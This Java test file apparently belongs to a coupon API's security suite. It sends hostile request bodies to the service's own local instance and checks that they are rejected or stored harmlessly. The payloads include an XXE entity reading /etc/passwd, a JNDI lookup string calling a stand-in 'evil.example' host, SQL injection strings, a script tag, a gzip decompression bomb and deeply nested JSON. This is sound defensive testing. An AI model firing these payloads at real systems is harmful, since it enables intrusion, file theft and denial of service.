package dev.coupon.api.attack;

import static dev.coupon.api.attack.Victim.asAdmin;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Supplier;
import java.util.zip.GZIPOutputStream;

/** Bodies of an admin's request for a coupon, which is the largest that there is. */
final class BodyAttacks {

    static final String COUPON = """
            {"name":"Attack","type":"CHICKEN","discountType":"FIXED","discountValue":3000,"totalQuantity":100,\
            "validUntil":"2099-01-01T00:00:00"}""";
    private static final int LIMIT = 8 * 1024;

    private final Victim victim;
    private final List<Attack> attacks = new ArrayList<>();

    private BodyAttacks(Victim victim) {
        this.victim = victim;
    }

    static List<Attack> on(Victim victim) {
        BodyAttacks all = new BodyAttacks(victim);
        all.numbers();
        all.shapes();
        all.types();
        all.words();
        return all.attacks;
    }

    private void numbers() {
        for (String quantity :
                List.of("-1", "0", "2147483648", "1e2", "100.0", "\"100\"", "NaN", "true", "[100]", "9".repeat(2000))) {
            String shown = quantity.length() > 20 ? "2,000 nines" : "`" + quantity + "`";
            coupon(
                    "quantity of " + shown,
                    "a coupon with `totalQuantity` " + shown,
                    COUPON.replace("100,", quantity + ","));
        }
        coupon(
                "discount above all",
                "a coupon of 101 per cent",
                COUPON.replace("FIXED", "PERCENTAGE").replace("3000", "101"));
        attacks.add(new Attack(
                "order of a negative amount",
                "`{\"orderId\":\"1\",\"orderAmount\":-20000}`",
                () -> victim.post(
                                "/api/coupon/" + victim.newCoupon().get() + "/usage",
                                Victim.asSomebody(),
                                "{\"orderId\":\"1\",\"orderAmount\":-20000}")
                        .said()));
        attacks.add(new Attack(
                "page of a million",
                "`GET /api/coupon?size=1000000`",
                () -> victim.get("/api/coupon?size=1000000", "").said()));
    }

    private void shapes() {
        coupon("deep JSON", "4,000 times `[`", "[".repeat(4_000));
        coupon("deep JSON in a field", "`name` of 1,400 times `{\"a\":`", "{\"name\":" + "{\"a\":".repeat(1_400));
        coupon("field that is there twice", "`totalQuantity` 1 and 100", COUPON.replace("{", "{\"totalQuantity\":1,"));
        coupon("field that nobody asked for", "`issuedQuantity` 0", COUPON.replace("{", "{\"issuedQuantity\":0,"));
        coupon("two coupons in one", "a list of coupons", "[" + COUPON + "," + COUPON + "]");
        coupon("second document", "a coupon behind a coupon", COUPON + COUPON);
        coupon("body above the limit", "9,000 bytes", COUPON + " ".repeat(9_000));
    }

    private void types() {
        typed("form instead of JSON", "application/x-www-form-urlencoded", "name=Attack&totalQuantity=100");
        typed("text instead of JSON", "text/plain", COUPON);
        typed(
                "XML with an entity of a file",
                "application/xml",
                "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>");
        typed("serialized Java object", "application/x-java-serialized-object", "\u00ac\u00ed\u0000\u0005");
        typed("parts instead of JSON", "multipart/form-data; boundary=x", "--x--");
        typed("JSON said to be in UTF-16", "application/json;charset=utf-16", COUPON);
        bytes("JSON in UTF-16", "a coupon in UTF-16, said to be JSON", "", encoded(COUPON, StandardCharsets.UTF_16));
        bytes("JSON in UTF-7", "`+AHs-...`", "", encoded(COUPON.replace("{", "+AHs-"), StandardCharsets.US_ASCII));
        bytes(
                "bytes that are no UTF-8",
                "`name` of the bytes `c0 af`",
                "",
                encoded(COUPON.replace("Attack", "\u00c0\u00af"), StandardCharsets.ISO_8859_1));
        bytes(
                "compressed bomb",
                "7 MB of blanks as `Content-Encoding: gzip`, in 7 KB",
                "Content-Encoding: gzip\r\n",
                bomb());
        bytes(
                "small compressed body",
                "a coupon as `Content-Encoding: gzip`",
                "Content-Encoding: gzip\r\n",
                gzip(COUPON.getBytes(StandardCharsets.UTF_8), 1));
    }

    private void words() {
        attacks.add(new Attack("SQL in a coupon's name", "a coupon named `'; DROP TABLE coupon; --`", () -> {
            RawAnswer made =
                    victim.post("/api/coupon", asAdmin(), COUPON.replace("Attack", "'; DROP TABLE coupon; --"));
            assertThat(made.json().at("/data/name").asString()).isEqualTo("'; DROP TABLE coupon; --");
            return made.said() + ", with that name";
        }));
        attacks.add(new Attack("script in a coupon's name", "a coupon named `<script>alert(1)</script>`", () -> {
            RawAnswer made =
                    victim.post("/api/coupon", asAdmin(), COUPON.replace("Attack", "<script>alert(1)</script>"));
            assertThat(made.header("Content-Type")).isEqualTo("application/json");
            assertThat(made.header("X-Content-Type-Options")).isEqualTo("nosniff");
            return made.said() + ", as JSON that no browser takes for a page";
        }));
        attacks.add(new Attack(
                "expression in a coupon's name", "a coupon named `${jndi:ldap://evil.example/a}`", () -> {
                    RawAnswer made = victim.post(
                            "/api/coupon", asAdmin(), COUPON.replace("Attack", "${jndi:ldap://evil.example/a}"));
                    assertThat(made.json().at("/data/name").asString()).isEqualTo("${jndi:ldap://evil.example/a}");
                    return made.said() + ", with that name";
                }));
        attacks.add(new Attack(
                "SQL in a query",
                "`?status=ACTIVE'%20OR%20'1'='1`",
                () -> victim.get("/api/coupon?status=ACTIVE'%20OR%20'1'='1", "").said()));
        attacks.add(new Attack(
                "SQL in an order's id",
                "`{\"orderId\":\"1' OR '1'='1\"}`",
                () -> victim.post(
                                "/api/coupon/" + victim.newCoupon().get() + "/usage/cancel",
                                Victim.asSomebody(),
                                "{\"orderId\":\"1' OR '1'='1\"}")
                        .said()));
    }

    private void coupon(String name, String sent, String body) {
        bytes(name, sent, "", body.getBytes(StandardCharsets.UTF_8));
    }

    private void typed(String name, String type, String body) {
        attacks.add(new Attack(
                name,
                "`Content-Type: " + type + "`",
                () -> withoutCoupon(
                        () -> victim.send("POST", "/api/coupon", "Content-Type: " + type + "\r\n" + asAdmin(), body))));
    }

    private void bytes(String name, String sent, String headers, byte[] body) {
        attacks.add(new Attack(
                name,
                sent,
                () -> withoutCoupon(() -> {
                    ByteArrayOutputStream request = new ByteArrayOutputStream();
                    request.writeBytes(("POST /api/coupon HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
                                    + Victim.JSON + headers + asAdmin() + "Content-Length: " + body.length + "\r\n\r\n")
                            .getBytes(StandardCharsets.US_ASCII));
                    // What is announced and too much is refused before it is sent.
                    request.write(body, 0, body.length > LIMIT ? 0 : body.length);
                    return RawAnswer.to(victim.port(), request.toByteArray());
                })));
    }

    private String withoutCoupon(Supplier<RawAnswer> attack) {
        long before = victim.count("SELECT COUNT(*) FROM coupon");
        String said = attack.get().said();
        assertThat(victim.count("SELECT COUNT(*) FROM coupon")).isEqualTo(before);
        return said;
    }

    private static byte[] encoded(String text, Charset charset) {
        return text.getBytes(charset);
    }

    private static byte[] bomb() {
        return gzip(" ".repeat(1_000).getBytes(StandardCharsets.US_ASCII), 7_000);
    }

    private static byte[] gzip(byte[] bytes, int times) {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
            for (int i = 0; i < times; i++) {
                gzip.write(bytes);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return packed.toByteArray();
    }
}
